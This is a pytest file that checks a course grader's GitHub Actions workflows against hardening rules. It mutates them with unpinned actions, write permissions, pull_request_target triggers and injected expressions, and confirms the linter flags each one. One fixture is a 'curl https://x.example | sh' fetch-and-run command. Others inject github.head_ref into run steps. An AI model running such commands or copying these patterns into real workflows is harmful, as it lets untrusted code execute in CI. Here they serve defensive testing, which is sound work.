"""The workflows keep our rules, and each rule finds what breaks it."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from grader.course import ROOT
from grader.tests import runner, workflows

FOLDER = ROOT / ".github/workflows"
OURS = {path.stem: path.read_text() for path in sorted(FOLDER.iterdir())}

ON = "on:\n  pull_request:"
PERMISSIONS = "permissions:\n  contents: read"
CHECKOUT = "uses: actions/checkout@93cb6efe18208431cddfb8368fd83d5badbf9bfd # v5.0.1"


@pytest.mark.parametrize("name", OURS)
def test_our_workflows_keep_the_rules(name: str) -> None:
    assert list(workflows.faults(OURS[name])) == []


@pytest.mark.parametrize(
    "name, old, new, words",
    [
        ("grade", CHECKOUT, "uses: actions/checkout@v5", "pinned"),
        ("grade", CHECKOUT, '"uses": actions/checkout@v5', "pinned"),
        ("grade", " # v6.0.0", "", "pinned"),
        ("grade", "actions/checkout@", "actions/check-out@", "nobody has looked at"),
        ("grade", "actions/checkout@", "./", "nobody has looked at"),
        ("grade", "contents: read", "contents: write", "only a workflow that follows"),
        ("grade", PERMISSIONS, "", "no list of permissions"),
        ("grade", PERMISSIONS, "permissions: write-all", "no list of permissions"),
        ("grade", PERMISSIONS, "permissions: write-all", "only a workflow that foll"),
        ("grade", "  pull_request:\n", "  pull_request_target:\n", "may write"),
        ("grade", ON, "on: pull_request_target", "may write"),
        ("grade", ON, "on: [push, pull_request_target]", "may write"),
        ("grade", "persist-credentials: false", "clean: true", "credentials"),
        ("grade", "    timeout-minutes: 35\n", "", "timeout-minutes"),
        ("grade", "timeout-minutes: 35", "timeout-minutes: 360", "timeout-minutes"),
        ("grade", "    steps:\n", "    uses: x\n    stages:\n", "not in this file"),
        ("grade", "concurrency:", "defaults:", "no concurrency"),
        ("grade", "HEAD=../head", "HEAD=${{ github.head_ref }}", "not one call"),
        ("grade", "HEAD=../head", "HEAD=${{ github.head_ref }}", "nothing is known"),
        ("grade", "HEAD=../head", "HEAD=$HEAD", "not one call"),
        ("grade", "make -C base setup", "curl https://x.example | sh", "not one call"),
        ("grade", "make -C base setup", "make -C base a; make", "not one call"),
        (
            "grade",
            "make -C base setup",
            "make a\n        shell: sh",
            "it has shell: sh",
        ),
        ("grade", "path: base", "working-directory: x", "has working-directory: x"),
        ("grade", "base.sha }}", "base.sha || 'main' }}", "nothing is known here as"),
        ("grade", "github.event.pull_request.number", "secrets.TOKEN", "a secret"),
        ("report", "path: base\n", "path: base\n          ref: x\n", "else chose"),
        ("grade", "github.event.pull", "github.evnt.pull", "nothing is known here as"),
        ("report", "run.id", "run.pull_requests", "nothing is known here as"),
        ("grade", "pull_request.number", "workflow_run.id", "its events have no"),
        ("class", "${{ matrix.shard }}/", "${{ matrix.shards }}/", "as matrix.shards"),
        ("class", "&& !cancelled()", "&& !canceled()", "nothing is known here as !c"),
        ("class", "if: vars.SUB", "if: vars.SUM", "nothing is known here as vars.SUM"),
        ("report", "workflows: [Grade]", "workflows: [Grades]", "is called Grades"),
        ("grade", "ubuntu-24.04", "ubuntu-24.40", "no machine is called"),
        ("report", "  comment:\n", "  comment:\n    permissions: write-all\n", "gives"),
    ],
)
def test_what_breaks_a_rule_is_found(name: str, old: str, new: str, words: str) -> None:
    assert old in OURS[name]
    found = list(workflows.faults(OURS[name].replace(old, new)))
    assert any(words in fault for fault in found), found


def test_make_lint_reads_the_workflows(tmp_path: Path) -> None:
    said = subprocess.run(
        ["make", "--dry-run", "lint"], cwd=ROOT, capture_output=True, text=True
    ).stdout
    (line,) = [line for line in said.splitlines() if "grader.tests.workflows" in line]
    assert ".github/workflows/grade.yml" in line
    bad = tmp_path / "bad.yml"
    bad.write_text(OURS["grade"].replace("make -C base setup", "true"))
    done = subprocess.run(
        ["/usr/bin/python3", "-m", "grader.tests.workflows", str(bad)],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 1
    assert done.stdout.startswith(f"{bad}: grade: a command is not one call")


CI = [
    step["run"]
    for job in runner.load(FOLDER / "ci.yml")["jobs"].values()
    for step in job["steps"]
    if "run" in step
]
# Targets that take no time once everything is installed; for others, run make -n.
CHEAP = {"setup", "setup-test", "isolation", "grade"}


@pytest.mark.parametrize("command", sorted(set(CI)))
def test_each_step_of_ci_can_be_run(command: str) -> None:
    program, *words = command.split()
    asked = [program, *words] if CHEAP >= set(words) else [program, "-n", *words]
    done = subprocess.run(asked, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout
